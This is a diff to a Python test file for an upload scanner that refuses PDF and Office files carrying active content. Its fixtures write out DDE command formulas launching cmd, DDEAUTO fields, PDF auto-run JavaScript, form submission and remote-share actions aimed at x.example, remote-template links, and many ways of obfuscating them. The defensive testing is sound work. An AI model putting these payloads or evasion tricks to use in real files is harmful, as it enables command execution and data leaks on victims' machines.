@@ -9,6 +9,45 @@ from incentives_portal.documents.parsing.reasons import Reason
 from . import corpus, samples
 
 _TABLE = samples.xlsx()
+_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+_SCRIPT = b"<< /S /JavaScript /JS (1) >>"
+_PICTURES = b"/Resources << /XObject << /A 5 0 R /B 7 0 R >> >>"
+
+
+def _picture(content: bytes) -> bytes:
+    """One whose bytes hold words of the language around it; no filter undoes them here."""
+    kind = b"/Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode"
+    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (kind, len(content), content)
+
+
+def _action(kind: bytes, entries: bytes) -> bytes:
+    """A PDF that does something when it is opened."""
+    return corpus.pdf_of(b"<< /S /%s %s >>" % (kind, entries), root=b"/OpenAction 5 0 R")
+
+
+def _letter(text: str) -> bytes:
+    return samples.docx(main=f'<w:document xmlns:w="urn:w"><w:r>{text}</w:r></w:document>'.encode())
+
+
+def _field(*pieces: str) -> bytes:
+    """A field whose instruction stands in one run after the other."""
+    runs = "</w:r><w:r>".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
+    return _letter(f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>')
+
+
+def _link(kind: str, target: str, mode: str = "External") -> bytes:
+    link = f'<Relationships><Relationship Id="r>1" Type="urn:x/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
+    return samples.docx(**{"word/_rels/settings.xml.rels": link.encode()})
+
+
+def _declaring(inner: str, **members: bytes) -> bytes:
+    """A spreadsheet that declares more of its parts."""
+    main = '<Override PartName="/xl/workbook.xml" ContentType="{}"/>'.format(
+        _SHEET_TYPE.replace("worksheet", "sheet.main")
+    )
+    return samples.archive(
+        {"[Content_Types].xml": f"<Types>{main}{inner}</Types>", "xl/workbook.xml": "<workbook/>", **members}
+    )
 
 
 def reason_for(name: str, data: bytes) -> Reason | None:
@@ -24,9 +63,15 @@ def reason_for(name: str, data: bytes) -> Reason | None:
     [
         pytest.param(corpus.pdf_with_file("factur-x.xml", b"<Invoice><ID>7</ID></Invoice>"), id="electronic-invoice"),
         pytest.param(corpus.pdf_with_object_stream({5: b"<< /A (b) >>"}, root=b""), id="object-stream"),
-        pytest.param(corpus.pdf_of(b"<< /Title (/S /Launch of /JavaScript \\(x\\)) >>"), id="words-in-a-title"),
-        pytest.param(corpus.pdf_of(corpus.stream(b"/S /Launch")), id="words-in-a-stream"),
-        pytest.param(corpus.pdf_of(b"<< /S /URI /URI (https://x.example) >>"), id="link"),
+        pytest.param(
+            corpus.pdf_of(b"<< /Title (/S /Launch of /JavaScript \\(x\\)) >>", root=b"/X 5 0 R"), id="words-in-a-title"
+        ),
+        pytest.param(corpus.pdf_of(corpus.stream(b"/S /Launch"), root=b"/X 5 0 R"), id="words-in-a-stream"),
+        pytest.param(corpus.pdf_of(b"<< /S /URI /URI (https://x.example) >>", root=b"/X 5 0 R"), id="link"),
+        pytest.param(
+            corpus.pdf_of(_picture(b"/JS ) >> endobj 8 0 obj << /S /Launch >>"), root=b"/X 5 0 R"),
+            id="words-in-a-picture",
+        ),
     ],
 )
 def test_pdf_with_harmless_parts_is_accepted(data):
@@ -53,6 +98,23 @@ def test_pdf_with_harmless_parts_is_accepted(data):
         pytest.param(
             corpus.pdf_of(root=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"), Reason.ACTIVE, id="script-by-name"
         ),
+        pytest.param(
+            corpus.pdf_of(
+                _picture(b"endstream ("), _SCRIPT, _picture(b"endstream )"), root=b"/OpenAction 6 0 R", page=_PICTURES
+            ),
+            Reason.ACTIVE,
+            id="script-between-brackets-of-pictures",
+        ),
+        pytest.param(_action(b"Rendition", b"/OP 0 /J#53 (1)"), Reason.ACTIVE, id="script-of-a-film"),
+        pytest.param(_action(b"SubmitForm", b"/F (http://x.example/)"), Reason.ACTIVE, id="sends"),
+        pytest.param(_action(b"ImportData", b"/F (x.fdf)"), Reason.ACTIVE, id="fills-in"),
+        pytest.param(_action(b"GoToR", b"/F (\\\\x.example\\a) /D [0 /Fit]"), Reason.ACTIVE, id="share"),
+        pytest.param(_action(b"GoTo#45", b"/F (a) /D [0 /Fit]"), Reason.ACTIVE, id="file-in-a-file"),
+        pytest.param(
+            corpus.pdf_of(corpus.stream(b"<template/>"), root=b"/AcroForm << /Fields [] /XFA 5 0 R >>"),
+            Reason.ACTIVE,
+            id="form-with-a-program",
+        ),
     ],
 )
 def test_pdf_that_is_more_than_pages_is_refused(data, reason):
@@ -68,6 +130,12 @@ def test_pdf_that_is_more_than_pages_is_refused(data, reason):
         pytest.param("a.docx", corpus.letter_with_template("file:///C:\\Templates\\Letter.dotm"), id="own-template"),
         pytest.param("a.xlsx", corpus.sheet("<c><f>SUM(A1:A9)</f></c>", "<c><v>a|b!c</v></c>"), id="formula"),
         pytest.param("a.docx", samples.docx(main="<d>How DDE works</d>".encode("utf-16")), id="wide-letters"),
+        pytest.param("a.docx", _link("hyperlink", "https://x.example/"), id="hyperlink"),
+        pytest.param("a.docx", _field(" PAGE ", "\\* MERGEFORMAT "), id="page-number"),
+        pytest.param("a.docx", _field(" REF A", "DDE "), id="field-whose-word-ends-so"),
+        pytest.param("a.docx", _letter("<w:t>DDEAUTO is a field of Word</w:t>"), id="words-in-a-letter"),
+        pytest.param("a.xlsx", samples.xlsx(**{"xl/drawings/vmlDrawing1.vml": b"<xml><br></xml>"}), id="old-drawing"),
+        pytest.param("a.docx", samples.docx(**{"word/fonts/font1.odttf": b"<a\0\xff"}), id="font-that-begins-so"),
     ],
 )
 def test_office_file_with_harmless_parts_is_accepted(name, data):
@@ -101,11 +169,87 @@ def test_office_file_with_harmless_parts_is_accepted(name, data):
         pytest.param("a.docx", samples.docx(**{"word/activeX/activeX1.bin": b"x"}), Reason.EMBEDDED, id="control"),
         pytest.param(
             "a.docx",
-            samples.docx(main=b"<d>" + b" " * (1024 * 1024 - 20) + b"<i>DDEAUTO c:\\cmd</i></d>"),
+            samples.docx(main=b"<d>" + b" " * (1024 * 1024 - 20) + b"<instrText>DDEAUTO c:\\cmd</instrText></d>"),
             Reason.ACTIVE,
-            id="between-two-pieces",
+            id="far-behind",
         ),
     ],
 )
 def test_office_file_that_runs_or_fetches_something_is_refused(name, data, reason):
     assert reason_for(name, data) == reason
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        pytest.param("a.xlsx", corpus.sheet("<c><f>cmd&#124;'/C calc'!A0</f></c>"), id="bar-as-a-reference"),
+        pytest.param("a.xlsx", corpus.sheet("<c><f>cmd|'/C calc'&#33;A0</f></c>"), id="mark-as-a-reference"),
+        pytest.param("a.xlsx", corpus.sheet("<c><f><![CDATA[cmd|'/C calc'!A0]]></f></c>"), id="quoted"),
+        pytest.param("a.xlsx", corpus.sheet("<c><f>cmd<!-- -->|'/C calc'!A0</f></c>"), id="comment-within"),
+        pytest.param("a.xlsx", corpus.sheet("<c><f>cmd<x>|'/C calc'</x>!A0</f></c>"), id="element-within"),
+        pytest.param("a.xlsx", corpus.sheet("<c><x:f xmlns:x='urn:x'>cmd|'/C calc'!A0</x:f></c>"), id="prefix"),
+        pytest.param(
+            "a.xlsx",
+            samples.xlsx(main=b"<workbook><definedName>cmd|'/C calc'!A0</definedName></workbook>"),
+            id="formula-with-a-name",
+        ),
+        pytest.param(
+            "a.xlsx",
+            samples.xlsx(**{"xl/worksheets/a.png": b"<s><f>cmd|'/C'!A0</f></s>"}),
+            id="sheet-named-as-a-picture",
+        ),
+        pytest.param(
+            "a.xlsx", samples.xlsx(**{"xl/worksheets/a.png": b"<s><f>cmd|'/C'!A0</f><"}), id="sheet-that-breaks-off"
+        ),
+        pytest.param("a.docx", _field(" &#68;DEAUTO c:\\x "), id="field-with-a-reference"),
+        pytest.param("a.docx", _field("&#x20;DD&#69; c:\\x "), id="field-with-references"),
+        pytest.param("a.docx", _field(" D", "D", "EAUTO c:\\x "), id="field-over-runs"),
+        pytest.param("a.docx", _field(" dde", " c:\\x "), id="field-in-small-letters"),
+        pytest.param(
+            "a.docx",
+            _letter("<w:instrText>DDE</w:instrText><w:instrText>AUTO x</w:instrText>"),
+            id="runs-without-a-field",
+        ),
+        pytest.param("a.docx", _letter('<w:fldSimple w:instr="&#68;DE x"/>'), id="simple-field"),
+        pytest.param("a.docx", _link("attachedTemplate", "https://x.example/t.dotm", "&#69;xternal"), id="mode"),
+        pytest.param(
+            "a.docx", _link("attachedTemplate", "https://x.example/t.dotm", "EXTERNAL"), id="mode-in-capitals"
+        ),
+        pytest.param("a.docx", _link("attached&#84;emplate", "https://x.example/t.dotm"), id="kind"),
+        pytest.param("a.docx", _link("attachedTemplate", "https&#58;//x.example/t.dotm"), id="target"),
+        pytest.param("a.docx", _link("frame", "%5C%5Cx.example/a"), id="share-in-percent"),
+        pytest.param("a.docx", _link("oleObject", "/\\x.example/a"), id="share-with-both-slashes"),
+        pytest.param(
+            "a.docx", _link("attachedTemplate", " " * 5000 + "https://x.example/t.dotm"), id="target-far-behind"
+        ),
+    ],
+)
+def test_office_file_is_refused_however_its_marks_are_written(name, data):
+    assert reason_for(name, data) == Reason.ACTIVE
+
+
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        pytest.param(
+            _declaring('<Default Extension="emf" ContentType="application/vnd.ms-office.vbaProject"/>'),
+            Reason.MACROS,
+            id="macros-by-ending",
+        ),
+        pytest.param(
+            _declaring(f'<Default Extension="png" ContentType="{_SHEET_TYPE}"/>', **{"xl/a.png": b"\0"}),
+            Reason.DAMAGED,
+            id="sheet-by-ending",
+        ),
+        pytest.param(
+            _declaring(f'<Override PartName="/XL/a.png" ContentType="{_SHEET_TYPE}"/>', **{"xl/a.png": b"<a>"}),
+            Reason.DAMAGED,
+            id="sheet-by-name",
+        ),
+        pytest.param(
+            samples.xlsx(**{"xl/media/a.png": b"<!DOCTYPE a><a/>"}), Reason.ENTITIES, id="declarations-in-a-picture"
+        ),
+    ],
+)
+def test_office_file_is_read_by_what_it_declares_and_not_by_endings(data, reason):
+    assert reason_for("a.xlsx", data) == reason
